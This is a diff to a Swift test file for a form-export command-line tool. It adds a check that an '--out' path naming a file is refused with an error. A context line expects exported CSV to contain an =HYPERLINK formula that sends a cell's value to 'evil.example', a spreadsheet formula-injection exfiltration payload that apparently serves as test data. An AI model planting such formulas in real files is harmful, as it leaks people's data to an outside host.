@@ -227,6 +227,10 @@ struct StoreCommandTests {
             contentsOf: folder.appendingPathComponent("raw/section11-school-return.csv"), encoding: .utf8)
         #expect(raw.contains(#","=HYPERLINK(""http://evil.example/?a=""&A1,""Priya"")","#))
         #expect(try Self.run(["export", "--format", "json", "--raw"], in: folder).status == 64)
+        let onFile = try Self.run(
+            ["export", "--form", "section11-school-return", "--format", "csv", "--out", file.path], in: folder)
+        #expect(onFile.status == 64)
+        #expect(onFile.stderr.contains("\(file.path) is a file, not a folder: --out names the folder the CSV files"))
     }
 
     @Test("an application for a driver held by another district is refused until the driver is transferred")
